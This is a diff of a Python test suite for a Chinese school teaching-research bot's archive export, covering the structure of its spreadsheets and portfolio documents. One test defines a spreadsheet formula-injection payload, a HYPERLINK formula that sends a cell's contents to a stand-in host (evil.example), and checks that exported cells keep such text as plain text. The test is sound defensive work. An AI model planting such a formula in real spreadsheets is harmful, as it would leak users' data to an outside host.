+    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
+    assert headings == ["目　录", "一、研修指标完成情况", "二、教研活动出勤", "三、公开课",
+                        "四、研修记录",
+                        "五、学期总结", "六、评价"]
+    quota_table = document.tables[1]
+    assert [c.text for c in quota_table.rows[0].cells] == [
+        "项目", "9月", "10月", "11月", "12月", "1月", "完成", "目标", "状态"]
+    stories = next(row for row in quota_table.rows if row.cells[0].text == "教育故事")
+    assert stories.cells[4].text == ""
+    assert stories.cells[1].text.isdigit()
+    # Every text in full, full width (a paragraph, not half a table).
+    assert any(p.text.endswith(NOTE) for p in document.paragraphs)
+    assert f"一个优点：{STRENGTH}" in texts
+    assert f"教学过程与观察：{PROCESS}" in texts
+    # Short answers share one line.
+    assert f"听课日期：2026-11-25　节次：3　年级班级：四年级1班　学科：数学　授课教师：{ZHANG}　" \
+        "课型：新授课" in texts
+    # Sections by kind, numbered, records numbered in date order.
+    kinds = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
+    assert any(re.fullmatch(r"（[一二三四五六七八九十]）读书笔记　\d+ 份", k) for k in kinds)
+    # Room for 学期总结 and 评价: tall empty boxes.
+    summary, review = document.tables[-2], document.tables[-1]
+    assert summary.rows[0].height >= Cm(9.9)
+    assert summary.rows[0].cells[0].text == ""
+    assert [row.cells[0].text for row in review.rows] == ["教研组评价", "教导处评价"]
+    # Everyone's portfolio has one numbered record per record of theirs in the ledgers
+    # (minutes of sessions are not in the ledgers' record sheets).
+    listed = seeded.school.rows("反思与材料台账") + seeded.school.rows("听课台账")
     for name, portfolio in portfolios.items():
         teacher = name.split("_")[0]
-        headings = [p.text for p in portfolio.paragraphs if p.style.name == "Heading 2"]
-        records = [h for h in headings if h not in ("研修指标完成情况", "研修记录")]
-        minutes = [h for h in records if h.startswith("教研活动记录：")]
-        assert len(records) - len(minutes) == sum(1 for r in listed if r[1] == teacher), name
+        kinds = [p.text for p in portfolio.paragraphs if p.style.name == "Heading 2"]
+        records = [p for p in portfolio.paragraphs if p.style.name == "Heading 3"]
+        minutes = sum(int(re.search(r"(\d+) 份", k)[1]) for k in kinds if "教研活动记录" in k)
+        deleted = sum(1 for r in listed if r[1] == teacher and len(r) == 10 and r[8] == "已删除")
+        assert len(records) - minutes == sum(1 for r in listed if r[1] == teacher) - deleted, name
 
 
 # -- narrower scopes ----------------------------------------------------------------------
@@ -414,15 +674,15 @@ def test_export_of_one_group(seeded: Seeded) -> None:
     archive = seeded.group
     assert archive.filename == f"花城小学_{SEMESTER}_语文组_20261130.zip"
     book = archive.book()
-    assert book.sheetnames == ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组", "指标汇总"]
+    assert book.sheetnames == ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组", "请假台账",
+                               "公开课台账", "统计汇总", "指标汇总"]
     members = group_members(seeded.core, "语文组")
-    assert [row[0] for row in archive.rows("指标汇总")[1:]] == members
-    assert {row[1] for row in archive.rows("听课台账")[1:]} <= set(members)
-    assert {row[0] for row in archive.rows("教研活动")[1:]} == {"语文组"}
-    assert all(name.startswith("语文组_") for name in archive.docs("教研活动记录"))
+    assert {row[2] for row in archive.rows("指标汇总")} == set(members)
+    assert {row[1] for row in archive.rows("听课台账")} <= set(members)
+    assert {row[1] for row in archive.rows("教研活动")} == {"语文组"}
+    assert all(name.startswith("语文组/") for name in archive.docs("教研活动记录"))
     assert len(archive.docs("教研活动记录")) == len(held_sessions(seeded.core, "语文组"))
     assert {name.split("_")[0] for name in archive.docs("个人研修档案")} == set(members)
-    # The same attendance as in the school's archive.
     assert archive.rows("考勤-语文组") == seeded.school.rows("考勤-语文组")
 
 
@@ -430,54 +690,31 @@ def test_export_of_one_teacher(seeded: Seeded) -> None:
     archive = seeded.teacher
     assert archive.filename == f"花城小学_{SEMESTER}_刘洋_20261130.zip"
     assert list(archive.docs("个人研修档案")) == [f"{LIU}_2002.docx"]
-    assert [row[0] for row in archive.rows("指标汇总")[1:]] == [LIU]
-    assert {row[1] for row in archive.rows("听课台账")[1:]} == {LIU}
-    assert {row[1] for row in archive.rows("反思与材料台账")[1:]} == {LIU}
-    assert archive.book().sheetnames == ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组",
-                                         "指标汇总"]
-    assert [row[0] for row in archive.rows("考勤-语文组")[1:]] == [LIU]
+    assert {row[2] for row in archive.rows("指标汇总")} == {LIU}
+    assert {row[1] for row in archive.rows("听课台账")} == {LIU}
+    assert {row[1] for row in archive.rows("反思与材料台账")} == {LIU}
+    assert [row[1] for row in archive.rows("考勤-语文组")] == [LIU]
+    assert {row[3] for row in archive.rows("请假台账")} == {LIU}
 
 
 def test_teacher_export_has_only_their_groups_sessions(seeded: Seeded) -> None:
     names = set(seeded.teacher.docs("教研活动记录"))
     assert names
-    # 刘洋 is in 语文组 only: its sessions, all of them, and no other group's.
-    assert {name.split("_")[0] for name in names} == {"语文组"}
+    assert {name.split("/")[0] for name in names} == {"语文组"}
     assert names == {name for name in seeded.school.docs("教研活动记录")
-                     if name.startswith("语文组_")}
-    assert seeded.teacher.rows("教研活动")[1:] == [
-        row for row in seeded.school.rows("教研活动")[1:] if row[0] == "语文组"]
-
-
-def _form_values(archive: Archive) -> dict[str, dict[str, str]]:
-    """语文组's 教研活动记录 in ``archive``: file name → label → value."""
-    return {name: {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
-            for name, document in archive.docs("教研活动记录").items()
-            if name.startswith("语文组_")}
-
-
-MINUTES_LABELS = ("主题", "时间", "地点", "主讲", "参加人员", "内容与讨论要点", "结论与改进措施")
-
-
-def test_teacher_export_session_forms_keep_the_minutes(seeded: Seeded) -> None:
-    # The minutes are 王芳's records, not 刘洋's: they are in his archive's forms all the same.
-    teacher, school_wide = _form_values(seeded.teacher), _form_values(seeded.school)
-    first = teacher["语文组_2026-09-02_1450.docx"]
-    assert first["内容与讨论要点"] != "（未填写活动记录）"
-    assert "、" in first["参加人员"]  # the whole group, not 刘洋 alone
-    assert set(teacher) == set(school_wide)
-    for name, values in teacher.items():
-        assert values["内容与讨论要点"] != "（未填写活动记录）", name
-        for label in MINUTES_LABELS:
-            assert values[label] == school_wide[name][label], (name, label)
+                     if name.startswith("语文组/")}
+    # The same sessions, counted over the whole group, as in the school's archive.
+    assert seeded.teacher.rows("教研活动") == [
+        row for row in seeded.school.rows("教研活动") if row[1] == "语文组"]
 
 
 def test_teacher_export_session_forms_match_the_schools(seeded: Seeded) -> None:
-    teacher, school_wide = _form_values(seeded.teacher), _form_values(seeded.school)
-    first = "语文组_2026-09-02_1450.docx"
-    assert school_wide[first]["请假人员"] == ZHOU
-    assert teacher[first]["请假人员"] == ZHOU
+    # The minutes are 王芳's records, not 刘洋's: they are in his archive's forms all the same.
+    teacher = {n: fields(d) for n, d in seeded.teacher.docs("教研活动记录").items()}
+    school_wide = {n: fields(d) for n, d in seeded.school.docs("教研活动记录").items()
+                   if n.startswith("语文组/")}
     assert teacher == school_wide
+    assert all(values["讨论要点"] for values in teacher.values())
 
 
 def test_unknown_scope_is_explained(seeded: Seeded) -> None:
@@ -534,18 +771,20 @@ async def test_odd_group_names_give_valid_sheet_and_file_names(
         assert archive.filename == f"花城小学_{SEMESTER}_综合_组___音体美__A__20261130.zip"
         book = archive.book()
         assert book.sheetnames == ["听课台账", "反思与材料台账", "教研活动",
-                                   "考勤-综合_组___音体美__A_", "指标汇总"]
+                                   "考勤-综合_组___音体美__A_", "请假台账", "公开课台账",
+                                   "统计汇总", "指标汇总"]
         for title in book.sheetnames:
             assert not forbidden & set(title), title
             assert len(title) <= 31
         for name in archive.files:
-            assert not forbidden & set(name.rpartition("/")[2]), name
+            for part in name.split("/"):
+                assert not forbidden & set(part), name
         sessions = archive.docs("教研活动记录")
         assert sessions
-        assert all(n.startswith("综合_组___音体美__A__2026-") for n in sessions)
+        assert all(n.startswith("综合_组___音体美__A_/第") for n in sessions)
         # The group's own name is kept inside the files.
-        assert {row[0] for row in archive.rows("教研活动")[1:]} == {odd}
-        assert {row[1] for row in archive.rows("指标汇总")[1:]} == {odd}
+        assert {row[1] for row in archive.rows("教研活动")} == {odd}
+        assert {row[1] for row in archive.rows("指标汇总")} == {odd}
     finally:
         core.db.close()
 
@@ -561,8 +800,9 @@ def small(config: Config, sqlite_url: str, clock: ManualClock) -> Iterator[Drive
     bot.core.db.close()
 
 
-def _cells(document: docx.document.Document) -> list[str]:
-    return [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+def _texts(document: docx.document.Document) -> list[str]:
+    """Every paragraph's text after its label (``优点：…`` → ``…``)."""
+    return [p.text.partition("：")[2] for p in document.paragraphs]
 
 
 async def test_control_character_in_a_record_does_not_break_the_export(small: Driver) -> None:
@@ -576,10 +816,10 @@ async def test_control_character_in_a_record_does_not_break_the_export(small: Dr
     assert "✅ 已提交听课记录" in shown(await observe(small, LIU, strength=strength))
     archive = Archive.of(await small.send(CHEN, "/export"))
     assert f"个人研修档案/{LIU}_2002.docx" in archive.files
-    cells = _cells(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])
-    assert body.replace("\x0b", " ") in cells
-    assert strength.replace("\x0c", " ") in cells
-    (row,) = archive.rows("听课台账")[1:]
+    texts = _texts(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])
+    assert body.replace("\x0b", " ") in texts
+    assert strength.replace("\x0c", " ") in texts
+    (row,) = archive.rows("听课台账")
     assert row[10] == strength.replace("\x0c", " ")
 
 
@@ -594,10 +834,10 @@ async def test_very_long_cell_is_cut_in_the_ledger_but_whole_in_the_portfolio(
                          "完成", SUGGESTION, "完成", taps=("数学", "新授课"))
     assert "✅ 已提交听课记录「分数的初步认识」。" in shown(replies)
     archive = Archive.of(await small.send(CHEN, "/export"))
-    (row,) = archive.rows("听课台账")[1:]
+    (row,) = archive.rows("听课台账")
     assert row[10] == strength[:32_000] + "……（太长，全文见个人研修档案）"
     assert (row[11], row[12]) == (WEAKNESS, SUGGESTION)  # short cells are left alone
-    assert strength in _cells(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])
+    assert strength in _texts(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])
 
 
 async def test_two_sessions_on_one_day_keep_both_forms(small: Driver, clock: ManualClock) -> None:
@@ -628,9 +868,80 @@ async def test_two_sessions_on_one_day_keep_both_forms(small: Driver, clock: Man
         replies = await small.send(CHEN, "/export 语文组")
     assert not [w for w in caught if "Duplicate name" in str(w.message)]
     archive = Archive.of(replies)
-    forms = {name: {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
+    forms = {name.split("次_")[1]: fields(document)
              for name, document in archive.docs("教研活动记录").items()
-             if name.startswith("语文组_2026-12-09")}
-    assert sorted(forms) == ["语文组_2026-12-09_0900.docx", "语文组_2026-12-09_1450.docx"]
-    assert forms["语文组_2026-12-09_0900.docx"]["时间"] == "2026年12月09日 09:00"
-    assert forms["语文组_2026-12-09_1450.docx"]["时间"] == "2026年12月09日 14:50"
+             if "_2026-12-09_" in name}
+    assert sorted(forms) == ["2026-12-09_0900.docx", "2026-12-09_1450.docx"]
+    assert forms["2026-12-09_0900.docx"]["时间"] == "2026年12月09日（周三）09:00–10:30"
+    assert forms["2026-12-09_1450.docx"]["时间"] == "2026年12月09日（周三）14:50–16:20"
+
+
+# -- text that looks like a formula ------------------------------------------------------
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点此查看")'
+
+
+async def test_formula_like_text_is_stored_as_text_in_every_sheet(
+        small: Driver, tmp_path: Path) -> None:
+    roster = tmp_path / "roster.csv"
+    roster.write_text(DEMO_ROSTER.read_text(encoding="utf-8") + "=1+2,语文组,教师,语文,2999\n",
+                      encoding="utf-8")
+    import_roster(small.core, read_roster(small.core, roster))
+    saved = await fill(small, LIU, "/record 读书笔记", EVIL, "/skip", NOTE_PARTS[0], "完成")
+    assert "✅ 已提交读书笔记" in shown(saved)
+    strength = "+1 学生参与度高，动手操作充分。"
+    assert "✅ 已提交听课记录" in shown(await observe(small, LIU, strength=strength))
+    archive = Archive.of(await small.send(CHEN, "/export"))
+    with zipfile.ZipFile(io.BytesIO(archive.files["台账.xlsx"])) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets
+        for name in sheets:
+            assert b"<f>" not in book.read(name), name  # no formula anywhere
+    seen = set()
+    for sheet in archive.book().worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
+                    seen.add((sheet.title, cell.value))
+    assert ("反思与材料台账", EVIL) in seen
+    assert ("听课台账", strength) in seen
+    assert ("考勤-语文组", "=1+2") in seen
+    assert ("指标汇总", "=1+2") in seen
+
+
+# -- the bot keeps answering ------------------------------------------------------------
+
+
+async def test_others_are_answered_while_an_archive_is_built(
+        small: Driver, monkeypatch: pytest.MonkeyPatch) -> None:
+    # The archive is built after the update's transaction, in a worker thread. Held at its
+    # start (by progress, not by time), it keeps no one else waiting.
+    started, release = hold_archives(monkeypatch)
+    building = asyncio.create_task(small.send(CHEN, "/export"))
+    assert await asyncio.to_thread(started.wait, 60)
+    me = await small.say(LIU, "/me")
+    assert f"{LIU}" in me
+    assert not building.done()
+    release.set()
+    archive = Archive.of(await asyncio.wait_for(building, 60))
+    assert "台账.xlsx" in archive.files
+
+
+def test_portfolio_shows_the_open_lessons_and_their_observers_notes(seeded: Seeded) -> None:
+    lessons = seeded.school.table("公开课台账")
+    given = next(row for row in lessons.data if row[12])  # one with observers
+    teacher, title, observers = given[4], given[9], str(given[13]).split("、")
+    name = next(n for n in seeded.school.docs("个人研修档案") if n.startswith(f"{teacher}_"))
+    for archive in (seeded.school, Archive.of(asyncio.run(
+            Driver(seeded.core).send(CHEN, f"/export {teacher}")))):
+        document = archive.docs("个人研修档案")[name]
+        texts = [p.text for p in document.paragraphs]
+        assert any(title in t and p.style.name == "Heading 2"
+                   for t, p in zip(texts, document.paragraphs, strict=True))
+        assert f"预约听课：{'、'.join(observers)}" in texts
+        assert any(t.startswith("说课稿/教学设计：说课稿：") for t in texts)
+        for observer in observers:  # their 听课记录, though the archive is the teacher's
+            assert any(t.startswith(f"{observer}的听课记录：优点：") for t in texts), observer
